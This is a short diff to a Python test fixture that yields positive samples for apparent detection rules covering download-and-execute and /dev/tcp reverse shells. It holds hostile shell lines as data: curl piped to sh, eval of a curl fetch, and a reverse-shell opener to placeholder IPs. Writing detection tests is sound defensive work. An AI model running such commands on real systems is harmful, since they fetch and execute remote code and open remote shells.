@@ -298,7 +298,7 @@ def positives():
     yield ("continuation.sh", "IRK_Linux_Download_Exec_Raw_Host",
            b"curl -fsSL http://203.0.113.7/x.sh \\\n  | sh\n")
     yield ("eval_ip.sh", "IRK_Linux_Download_Exec_Raw_Host",
-           b"eval \"$(curl -fsSL 203.0.113.7/x)\"\n")
+           b"eval \"$(curl -fsSL http://203.0.113.7/x)\"\n")
     # --- issue 18: reverse shells -----------------------------------------
     yield ("revshell_fd196.sh", "IRK_Linux_Reverse_Shell_DevTcp", (
         "exec 196<>/dev/tcp/192.0.2.10/443\n"
